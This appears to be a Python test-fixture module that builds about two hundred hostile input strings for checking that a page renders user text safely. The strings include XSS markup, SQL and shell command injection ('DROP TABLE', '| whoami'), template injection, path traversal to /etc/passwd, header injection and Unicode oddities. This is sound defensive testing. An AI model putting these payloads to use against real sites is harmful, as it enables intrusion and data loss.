"""Two hundred strings that somebody may put where a name, a remark or a sentence goes, to break a page that shows them.

Each that could run a script calls `broken(N)`; a page that is not broken never does.
"""

from collections.abc import Iterator

HITS = "broken"
"""The function that a script which runs would call."""


def hostile_strings() -> tuple[str, ...]:
    """Different ones, none empty, none over 4000 characters."""
    found = (*_markup(), *_addresses(), *_templates(), *_queries(), *_directions(), *_nothings(), *_long(), *_odd())
    return tuple(dict.fromkeys(found))


def _run(number: int) -> str:
    return f"{HITS}({number})"


def _markup() -> Iterator[str]:
    tags = (
        "<script>{}</script>",
        "<img src=x onerror={}>",
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
        "<body onload={}>",
        "<input autofocus onfocus={}>",
        "<details open ontoggle={}>",
        "<video><source onerror={}></video>",
        "<audio src=x onerror={}>",
        "<marquee onstart={}>",
        "<math><mi xlink:href='javascript:{}'>x</mi></math>",
        "<object data='javascript:{}'></object>",
        "<embed src='javascript:{}'>",
        "<form action='javascript:{}'><button>x</button></form>",
        "<a href='javascript:{}'>x</a>",
        "<base href='//elsewhere.example/'><script src=x.js></script><!--{}-->",
        "<link rel=stylesheet href='data:text/css,*{{x:expression({})}}'>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<style>@import 'javascript:{}'</style>",
        "<template><script>{}</script></template>",
        "<noscript><p title='</noscript><img src=x onerror={}>'>",
        "<textarea></textarea><img src=x onerror={}>",
        "<title></title><img src=x onerror={}>",
    )
    breaks = ("{}", "\"'>{}", "--></script>{}", "</textarea>{}", "]]>{}")
    for i, tag in enumerate(tags):
        for j, around in enumerate(breaks):
            yield around.replace("{}", tag.format(_run(i * 10 + j)))


def _addresses() -> Iterator[str]:
    yield from (
        f"javascript:{_run(300)}",
        f"JaVaScRiPt:{_run(301)}",
        f"java\tscript:{_run(302)}",
        f" javascript:{_run(303)}",
    )
    yield from (
        f"data:text/html,<script>{_run(304)}</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//elsewhere.example/x",
    )
    yield from (
        "https://elsewhere.example/?a=<b>&c='d'",
        "#/session/../../x",
        "#/people",
        "../../../../etc/passwd",
        "C:\\con\\nul",
    )


def _templates() -> Iterator[str]:
    yield from (
        f"${{{_run(310)}}}",
        f"{{{{{_run(311)}}}}}",
        f"{{{{constructor.constructor('{_run(312)}')()}}}}",
        f"<%= {_run(313)} %>",
    )
    yield from (
        "{name}",
        "{0}",
        "%s%s%n",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "`id`",
        "$(id)",
        "{__class__}",
        "<!--?lit$1$-->",
        "{{lit-1}}",
    )
    yield from ("__proto__", "constructor", "toString", "hasOwnProperty", "prototype")


def _queries() -> Iterator[str]:
    yield from (
        "'; DROP TABLE person; --",
        "1' OR '1'='1",
        '" OR ""="',
        "\\'; --",
        "Robert'); --",
        "%' ESCAPE '\\",
        "=1+1",
        "@SUM(A1)",
    )
    yield from (
        '=HYPERLINK("//elsewhere.example")',
        "+1+1",
        "-1+1",
        "| whoami",
        "; ls -la",
        "&& echo x",
        "\r\nSet-Cookie: x=y",
    )


def _directions() -> Iterator[str]:
    yield from (
        "\u202egnp.exe",
        "\u2067abc\u2069",
        "\u200f\u200e\u200f",
        "שלום עולם",
        "مرحبا بالعالم",
        "a\u0308\u0308\u0308\u0308\u0308z",
    )
    yield from (
        "z" + "\u0315\u0358\u0321\u0489" * 40,
        "\u200bzero\u200bwidth\u200b",
        "\ufeffbom",
        "I\u0307ıſ",
        "ﬀﬁ",
        "K",
    )


def _nothings() -> Iterator[str]:
    yield from (
        "null",
        "NULL",
        "None",
        "undefined",
        "NaN",
        "Infinity",
        "-0",
        "0",
        "false",
        "true",
        "[]",
        "{}",
        "[object Object]",
    )
    yield from (
        "-",
        ".",
        "..",
        "/",
        "\\",
        "*",
        "?",
        "~",
        "'",
        '"',
        "`",
        "&amp;",
        "&lt;b&gt;",
        "&#x3c;script&#x3e;",
        "%3Cscript%3E",
        "\\u003cscript\\u003e",
    )


def _long() -> Iterator[str]:
    yield from (
        "W" * 3999,
        "<b>" * 1300,
        "&" * 4000,
        "a b " * 999,
        "🦑" * 900,
        "\u202e" * 500 + "x",
        "(" * 2000,
        "[" * 2000,
    )


def _odd() -> Iterator[str]:
    yield from (
        "🏳️‍🌈👩‍👩‍👧‍👦",
        "\U000e0041\U000e0042",
        "\uffff",
        "\u2028\u2029line",
        "tab\there",
        "a\vb\fc",
        "\x1b[31mred",
        "\x7f",
        "１２３",
        "𝒻𝒶𝓃𝒸𝓎",
    )
